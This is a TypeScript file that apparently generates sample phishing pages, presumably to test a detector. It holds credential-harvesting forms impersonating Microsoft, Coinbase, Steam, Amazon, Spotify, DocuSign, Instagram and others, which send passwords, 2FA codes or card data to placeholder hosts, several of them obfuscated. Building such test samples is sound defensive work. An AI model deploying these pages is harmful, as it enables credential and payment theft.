import { base64, field, page, type Samples, scripted, site } from '../../sample.ts';

/** Writes a script as the common obfuscator does: names in hexadecimal and an array of strings that functions index. */
function hexNames(strings: readonly string[], code: (at: (i: number) => string) => string): string {
  const name = (i: number) => `_0x${(0x4a2b1c + i * 7_919).toString(16)}`;
  const list = strings
    .map((text) => `'${[...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`)
    .join(',');
  const dead = Array.from(
    { length: 12 },
    (_, i) => `function ${name(20 + i)}(${name(40 + i)}){return ${name(0)}[${name(40 + i)}-0x${i}];}`,
  ).join('');
  return `var ${name(0)}=[${list}];(function(${name(1)},${name(2)}){while(!![]){try{break;}catch(${name(3)}){${name(1)}['push'](${name(1)}['shift']());}}}(${name(0)},0x1));${dead}${code((i) => `${name(0)}[0x${i.toString(16)}]`)}`;
}

const OFFICE = `<div id="lightbox"><img src="logo.svg" alt="Microsoft"><div id="displayName">Enter password</div><form id="i0281"><input name="login" type="email"><input name="passwd" type="password" id="i0118" placeholder="Password"><input type="submit" value="Sign in"></form></div>
<script>${hexNames(['https://cdn-session.example/process', 'POST', 'i0281', 'submit'], (at) => `document['getElementById'](${at(2)})['addEventListener'](${at(3)},function(_0x5d2e){_0x5d2e['preventDefault']();fetch(${at(0)},{'method':${at(1)},'body':new FormData(this)});});`)}</script>`;

const COINBASE = `<img class="mark" src="/cb.svg" alt="Coinbase logo"><h1>Sign in to Coinbase</h1><form id="s1"><input type="email" name="email" placeholder="Your email address"><input type="password" name="password" placeholder="Your password"></form>
<form id="s2" hidden><p>Enter the 2-step verification code</p><input name="token" inputmode="numeric" maxlength="7"></form>
<script type="module">const send = (step, form) => fetch(\`https://cb-relay.someone1.workers.dev/\${step}\`, { method: 'POST', body: new URLSearchParams(new FormData(form)) });
s1.onsubmit = (e) => { e.preventDefault(); send('login', s1); s1.hidden = true; s2.hidden = false; }; s2.onsubmit = (e) => { e.preventDefault(); send('code', s2); };</script>`;

/** A window in the window, whose address bar is drawn. */
const STEAM = `<h1>CS2 Major tournament: claim your team's pass</h1><button id="b">Sign in through STEAM</button><div class="window" id="w" hidden><div class="title-bar">Steam Community — <span class="url">https://steamcommunity.com/openid/login</span> <i>🔒</i></div>
<div class="content"><img src="steam_logo.svg" alt="STEAM"><h2>Sign in</h2><input id="u" placeholder="Sign in with account name"><input id="p" type="password" placeholder="Password"><button id="go">Sign in</button><div id="guard" hidden>Steam Guard code <input id="c" maxlength="5"></div></div></div>
<script>b.onclick=()=>{w.hidden=false};go.onclick=()=>{const s=new WebSocket("wss://hub-tournament.example/ws");s.onopen=()=>s.send(JSON.stringify({u:u.value,p:p.value}));guard.hidden=false}</script>`;

const LINKEDIN = `const tpl=\`<section class="auth"><img :src="logo" alt="LinkedIn"><h1>Sign in</h1><p>Stay updated on your professional world</p><input v-model="m" placeholder="Email or Phone"><input v-model="p" type="password" placeholder="Password"><button @click="go">Sign in</button></section>\`;
const api={base:"https://jobs-offer-pdf.example/api"};const App={template:tpl,data:()=>({m:"",p:"",logo:"./in.png"}),methods:{go(){fetch(api.base+"/in",{method:"POST",body:JSON.stringify(this.$data)})}}};document.title="LinkedIn Login, Sign in | LinkedIn";x(App);`;

const AMAZON = `<div class="a-box"><i class="a-icon-logo" role="img" aria-label="Amazon"></i><h1>Your account is on hold</h1><p>We placed your Amazon account and all pending orders on hold. Sign in and update your payment information.</p>
<form method="post" action="#">${field('Email or mobile phone number', 'name="email"')}${field('Password', 'name="password" type="password"')}<button formaction="https://order-hold-review.example/ap/signin" formmethod="post">Continue</button></form></div>`;

const SPOTIFY = `const API_URL="https://subs-renew.example";function P(){return e("main",null,e("img",{src:"/spotify-icon.png",alt:""}),e("h1",null,"Update your payment details"),e("p",null,"Your Spotify Premium payment failed. Your subscription will be cancelled."),
e("input",{name:"ccnum",placeholder:"Card number",autoComplete:"cc-number"}),e("input",{placeholder:"MM / YY",autoComplete:"cc-exp"}),e("input",{placeholder:"Security code",autoComplete:"cc-csc"}),e("button",{onClick:()=>fetch(\`\${API_URL}/card\`,{method:"POST",body:x(1)})},"Save"))}P();`;

const ATT = `<table width="100%" bgcolor="#009fdb"><tr><td><img src="globe.gif" alt="AT&amp;T"></td></tr></table><table align="center"><tr><td><b>AT&amp;T Mail login</b><br>Your mailbox is almost full. Sign in to upgrade your quota.
<form method=POST action="http://203.0.113.77/~web/att.php"><table><tr><td>Email<td><input name=user><tr><td>Password<td><input type=password name=pass><tr><td><td><input type=submit value=Login></table></form></td></tr></table>`;

const GENERIC_LOGOS = `<div class="box"><img id="logo" src="https://logo.clearbit.com/office.com"><h3>Verify your identity to view this file</h3><input type="email" id="e"><input type="password" id="p"><button onclick="send()">View file</button></div>
<script>function send(){var r=new XMLHttpRequest();var k=['https:/','/files-view','.exa','mple/x.php'].join('');r.open('POST',k);r.send('e='+e.value+'&p='+p.value)}</script>`;

const DOCUMENT = `<div class="shared"><img src="docu.png" alt="DocuSign"><h2>Review and sign: Purchase Order 5521</h2><p>Sign in with your work email to view the document.</p>
<form action="https://formsubmit.co/5f0c1a2b3c4d5e6f" method="POST"><input type="hidden" name="_captcha" value="false"><input name="email" type="email" placeholder="Work email"><input name="pw" type="password" placeholder="Email password"><button>Review document</button></form></div>`;

export const LOGINS: Samples = {
  'Microsoft with hexadecimal names': site('Sign in to Microsoft 365', OFFICE, {
    head: '<link rel="icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">',
  }),
  'Coinbase with two steps to a worker': site('Coinbase', COINBASE),
  'Steam in a drawn window': site('CS2 Major', STEAM),
  'LinkedIn as an application': scripted('LinkedIn', LINKEDIN),
  'Amazon by the action of a button': site('Amazon Sign-In', AMAZON),
  'Spotify card as an application': scripted('Spotify', SPOTIFY),
  'AT&T in tables to an address': { 'index.html': page('AT&amp;T - Login', ATT) },
  'a logo by the domain of the address': site('Secure file', GENERIC_LOGOS),
  'DocuSign to a form service': site('DocuSign', DOCUMENT),
  'a drawing that asks for a password': {
    'voicemail.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><title>Microsoft Teams voicemail</title><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml"><h1>Sign in to Microsoft Teams</h1><form action="https://vm-listen.example/p"><input name="e"/><input type="password" name="p"/></form></body></foreignObject></svg>`,
    'index.html': page('Voicemail', '<a href="voicemail.svg">Listen</a>'),
  },
  'a log-in in a frame from a string': site(
    'Dropbox',
    `<iframe srcdoc="${`<h1>Sign in to Dropbox</h1><form action='https://shared-folder.example/db' method=post><input name=e><input type=password name=p></form>`.replaceAll('"', '&quot;')}" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
  ),
  'a base64 page that a script writes': {
    'index.html': `<script>const c="${base64(page('Instagram • Login', `<h1>Instagram</h1><form action="https://ig-verified-badge.example/l">${field('Phone number, username, or email', 'name="u"')}${field('Password', 'type="password" name="p"')}</form>`))}";document.open();document.write(decodeURIComponent(escape(window.atob(c))));document.close();</script>`,
  },
};
